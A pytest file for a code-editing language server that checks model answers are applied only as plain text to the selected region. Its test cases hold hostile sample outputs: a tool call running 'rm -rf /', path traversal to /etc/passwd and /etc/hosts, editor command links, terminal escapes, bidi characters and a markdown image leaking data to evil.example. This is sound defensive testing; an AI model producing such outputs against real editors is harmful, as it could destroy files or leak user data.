"""Whatever a model says, it stays plain text in its region."""

from pathlib import Path

import pytest

from coderoute_ls.domain import Position, Span
from coderoute_ls.lsp_client.scripted_editor import Buffer
from coderoute_ls.server.rpc.messages.coderoute_messages import JobFinished
from tests.support.editor import ScriptedEditor
from tests.support.provider import ScriptedProvider
from tests.support.session import session, vendor

ABOVE, OLD, BELOW = "import os\n\n", "def f(x):\n    return x\n", "\nprint(os.name)\n"
REGION = Span(Position(2, 0), Position(4, 0))


async def ask(editor: ScriptedEditor, provider: ScriptedProvider, answer: str) -> tuple[Buffer, JobFinished]:
    buffer = editor.open("file:///work/a.py", ABOVE + OLD + BELOW)
    started = await editor.run("refactor", buffer, REGION)
    request = await provider.request()
    await request.answer(answer)
    return buffer, await editor.finished(started.job)


def defined(body: str) -> str:
    """The region's definition with another body."""
    return "def f(x):\n" + "".join(f"    {line}\n" for line in body.splitlines())


@pytest.mark.parametrize(
    ("answer", "written"),
    [
        (defined("y = '${1:name} $0 ${TM_FILENAME} \\\\$1'\nreturn y"), None),
        (defined("# ../../../../etc/passwd\nreturn open('../../b.py')"), None),
        (defined("# [run](command:workbench.action.quit)\nreturn x"), None),
        (defined("return 1 \x1b[2J\x1b]0;title\x07\x1b[31m"), defined("return 1 ")),
        (defined("return '\u202e\u2066user\u2069'"), defined("return 'user'")),
        ("```python:other.py\ny = 1\n```\n```python:/etc/hosts\n" + defined("return 1") + "```\n", defined("return 1")),
    ],
    ids=["snippet", "paths", "command link", "escapes", "bidi", "other files"],
)
async def test_an_answer_is_plain_text_in_its_region(tmp_path: Path, answer: str, written: str | None) -> None:
    async with ScriptedProvider() as provider, session(tmp_path, vendor(provider)) as editor:
        buffer, finished = await ask(editor, provider, answer)
        assert finished.outcome == "applied"
        assert buffer.text == ABOVE + (answer if written is None else written) + BELOW
        uris = {change["textDocument"]["uri"] for edit in editor.edits for change in edit["documentChanges"]}
        assert uris == {buffer.uri}
        assert all(
            set(edit) == {"range", "newText"} for made in editor.edits for c in made["documentChanges"] for edit in c["edits"]
        )
        assert list((tmp_path / "work").iterdir()) == []


@pytest.mark.parametrize(
    "answer",
    [
        "*** Begin Patch\n*** Update File: other.py\n+x = 1\n*** End Patch\n",
        "<<<<<<< SEARCH\n=======\n>>>>>>> REPLACE\n",
        '{"tool": "run", "arguments": {"command": "rm -rf /"}}\n',
        "```python:other.py\nx = 1\n```\n```python:/etc/hosts\ny = 2\n```\n",
    ],
    ids=["patch", "conflict", "tool call", "other files"],
)
async def test_what_is_no_text_for_the_region_is_refused_and_shown_on_demand(tmp_path: Path, answer: str) -> None:
    async with ScriptedProvider() as provider, session(tmp_path, vendor(provider)) as editor:
        buffer, finished = await ask(editor, provider, answer)
        assert (finished.outcome, bool(finished.problems)) == ("refused", True)
        assert buffer.text == ABOVE + OLD + BELOW
        assert editor.edits == []
        await editor.command("coderoute.showAnswer", {"job": finished.job})
        shown = await editor.read(await editor.shown_document())
        assert answer.strip() in shown
        assert "](" not in shown


async def test_invisible_characters_are_reported(tmp_path: Path) -> None:
    async with ScriptedProvider() as provider, session(tmp_path, vendor(provider)) as editor:
        _, finished = await ask(editor, provider, defined("return '\u202eabc'"))
        assert finished.problems == ["Removed 1 invisible control character from the answer: U+202E."]


async def test_five_megabytes_are_refused_and_the_region_is_as_it_was(tmp_path: Path) -> None:
    async with ScriptedProvider() as provider, session(tmp_path, vendor(provider)) as editor:
        buffer = editor.open("file:///work/a.py", ABOVE + OLD + BELOW)
        started = await editor.run("refactor", buffer, REGION)
        request = await provider.request()
        await request.start()
        for _ in range(80):
            try:
                await request.text("y = 1234567\n" * 5461)
            except ConnectionError:
                break  # the server has hung up
        finished = await editor.finished(started.job)
        assert finished.outcome == "failed"
        assert buffer.text == ABOVE + OLD + BELOW
        assert await editor.notice() == finished.message


async def test_a_code_block_about_a_call_cannot_run_in_an_explanation(tmp_path: Path) -> None:
    hostile = (
        "It returns x. [Fix it](command:coderoute.run)\n\n<a href='command:x'>go</a>\n\n![p](https://evil.example/?leak)\n\n"
        "[ref]\n\n[ref]: &#106;avascript:alert(1)\n"
    )
    async with ScriptedProvider() as provider, session(tmp_path, vendor(provider)) as editor:
        buffer = editor.open("file:///work/a.py", ABOVE + OLD + BELOW)
        started = await editor.run("explain", buffer, REGION)
        await (await provider.request()).answer(hostile)
        await editor.finished(started.job)
        text = await editor.read(await editor.shown_document())
        for live in ("](command:", "<a ", "![", "]: &#106;"):
            assert live not in text.replace("\\![", "").replace("\\<a ", "")
